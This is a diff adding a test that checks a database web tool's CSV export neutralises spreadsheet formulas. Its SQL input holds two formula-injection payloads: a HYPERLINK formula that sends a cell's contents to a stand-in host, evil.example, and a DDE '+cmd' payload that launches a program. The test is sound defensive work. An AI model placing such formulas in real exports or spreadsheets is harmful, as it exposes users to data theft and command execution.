@@ -682,3 +682,14 @@ def test_errors_are_one_log_line_not_a_console_dump_and_absolute_targets_are_ref
     assert "Traceback" not in log and "locals" not in log.lower(), log[-2000:]
     assert "GET /estate/no_such_table: 404" in log
     assert served["process"].poll() is None
+
+
+def test_csv_exports_open_as_data_not_formulas(served):
+    base = served["base"]
+    sql = "select '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")' as a, '+cmd|'' /C calc''!A0' as b, -5 as n, 'ok' as c"
+    status, body = request(base, sql_page(sql, ".csv"))
+    assert status == 200
+    text = body.decode()
+    assert "'=HYPERLINK" in text and "'+cmd" in text and ",-5," in text and text.rstrip().endswith("ok")
+    status, body = request(base, f"/{DB_NAME}/resources.csv?_stream=on")
+    assert status == 200 and b"legacy-reports-queue" in body
